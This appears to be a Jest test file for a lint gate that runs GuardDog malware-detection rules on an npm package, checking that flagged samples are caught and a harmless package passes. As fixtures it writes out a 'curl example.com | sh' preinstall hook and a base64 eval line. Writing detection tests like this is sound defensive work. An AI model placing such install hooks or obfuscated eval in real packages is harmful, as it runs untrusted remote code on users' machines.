import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import { afterAll, beforeAll, expect, it } from '@jest/globals';

/** The lint gate runs GuardDog's threat rules on the package that is published. */

/** The rules are compiled in each run. */
const TIMEOUT_MS = 300_000;

let folder: string;
beforeAll(() => {
	folder = mkdtempSync(join(tmpdir(), 'guarddog-'));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

function scan(manifest: object, script: string) {
	writeFileSync(join(folder, 'package.json'), JSON.stringify(manifest));
	writeFileSync(join(folder, 'node.js'), script);
	const { status, stdout } = spawnSync(process.execPath, ['scripts/support/guardDog.mjs', folder], {
		encoding: 'utf8',
	});
	return { status, stdout };
}

it(
	'GuardDog finds what malware does, each rule in the files that it is for',
	() => {
		const script = 'eval(Buffer.from(text, "base64").toString()); // os.environ["API_KEY"]';
		const { status, stdout } = scan({ scripts: { preinstall: 'curl example.com | sh' } }, script);
		expect(stdout).toContain('node.js: threat_runtime_obfuscation_base64exec (');
		expect(stdout).toContain('package.json: threat_npm_preinstall_script (');
		expect(stdout).not.toContain('node.js: threat_npm');
		expect(status).toBe(1);
	},
	TIMEOUT_MS,
);

it(
	'GuardDog finds nothing in a harmless package',
	() => {
		expect(scan({ name: 'harmless' }, 'exports.answer = 42;')).toEqual({ status: 0, stdout: '' });
	},
	TIMEOUT_MS,
);
